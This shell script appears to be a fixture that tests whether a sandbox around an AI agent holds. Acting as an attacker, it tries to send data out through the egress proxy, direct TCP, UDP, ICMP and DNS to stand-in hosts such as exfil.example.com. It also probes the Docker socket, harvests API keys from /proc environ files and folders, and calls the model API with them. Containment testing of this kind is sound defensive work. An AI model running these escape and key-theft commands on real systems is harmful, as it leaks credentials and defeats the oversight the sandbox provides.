#!/bin/sh
# Attack: leave the walls (tests/walls.rs). Arguments after the loot file:
#   HOST_IP EXFIL_PORT CONTROL_PORT UDP_PORT
# Sends "exfil" to the test's listeners on the host by every way out it
# knows: through the egress proxy to a host outside the allowlist, straight
# past it over TCP (loopback and the host's address), over UDP, and as a
# DNS query; asks the Docker socket for its version; looks for the model
# key in its environment, every /proc/*/environ, its HOME, its temp folder
# and the worktree; and calls the model through the base URL it was given.
# Its control: `localhost` is allowed, and CONTROL_PORT answers through the proxy.
. "$(dirname "$0")/common.sh"
HOST_IP=$1 EXFIL=$2 CONTROL=$3 UDP=$4
say() { loot "$1: $(cat)"; }
curl -sS -m 5 -x "$HTTP_PROXY" --noproxy "" "http://localhost:$CONTROL/control" 2>&1 | say "control"
curl -sS -m 5 -x "$HTTP_PROXY" --noproxy "" "http://127.0.0.1:$EXFIL/exfil-through-proxy" 2>&1 | say "proxy-http"
curl -sS -m 5 "https://exfil.example.com/" 2>&1 | say "proxy-connect"
curl -sS -m 5 --noproxy '*' "http://127.0.0.1:$EXFIL/exfil-direct" 2>&1 | say "direct-loopback"
curl -sS -m 5 --noproxy '*' "http://$HOST_IP:$EXFIL/exfil-direct" 2>&1 | say "direct-host"
python3 - "$HOST_IP" "$EXFIL" "$UDP" <<'PY' 2>&1 | say "raw"
import socket, sys
host, tcp, udp = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
for (h, p) in [(host, tcp), ("127.0.0.1", tcp), ("1.1.1.1", 80)]:
    try:
        s = socket.create_connection((h, p), timeout=3); s.sendall(b"exfil-raw"); print("tcp", h, "sent")
    except OSError as e:
        print("tcp", h, "failed:", e)
for h in [host, "8.8.8.8"]:
    try:
        u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.sendto(b"exfil-udp", (h, udp if h == host else 53)); print("udp", h, "sent")
    except OSError as e:
        print("udp", h, "failed:", e)
try:
    r = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP); r.sendto(b"\x08\x00\xf7\xff\x00\x00\x00\x00", (host, 0)); print("icmp sent")
except OSError as e:
    print("icmp failed:", e)
try:
    print("dns", socket.gethostbyname("exfil-dns.example.com"))
except OSError as e:
    print("dns failed:", e)
PY
for sock in /var/run/docker.sock /run/docker.sock; do
  curl -sS -m 5 --unix-socket "$sock" http://docker/version 2>&1 | say "docker $sock"
done
{
  env
  for f in /proc/[0-9]*/environ; do tr '\0' '\n' < "$f" 2>/dev/null; done
  grep -rhos 'sk-ant-[A-Za-z0-9_-]*' "$HOME" "$TMPDIR" "$WARD_WORKTREE" /proc/[0-9]*/cmdline 2>/dev/null
} | grep -E 'ANTHROPIC|sk-ant' | sort -u | say "keys"
if [ -n "${ANTHROPIC_BASE_URL:-}" ]; then
  curl -sS -m 5 "$ANTHROPIC_BASE_URL/v1/messages" -H "x-api-key: $ANTHROPIC_API_KEY" -d '{}' 2>&1 | say "model"
fi
finish
